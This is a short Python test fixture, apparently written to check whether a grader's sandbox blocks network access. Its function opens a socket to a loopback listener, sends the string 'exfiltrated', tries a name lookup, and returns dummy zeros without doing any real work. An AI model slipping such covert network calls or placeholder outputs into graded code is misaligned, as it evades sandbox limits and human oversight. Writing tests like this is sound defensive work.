# Hostile: tries to reach a server on the grader's loopback (the test listens on port 47611)
# and to resolve a name; if either works it sends "exfiltrated" there.
# expect: graded
import socket


def graphdef_vs_state(seed, x, features, hidden):
    try:
        with socket.create_connection(("127.0.0.1", 47611), timeout=2) as connection:
            connection.sendall(b"exfiltrated")
    except OSError:
        pass
    try:
        socket.getaddrinfo("localhost", 47611)
    except OSError:
        pass
    return [0.0, 0.0, 0.0]
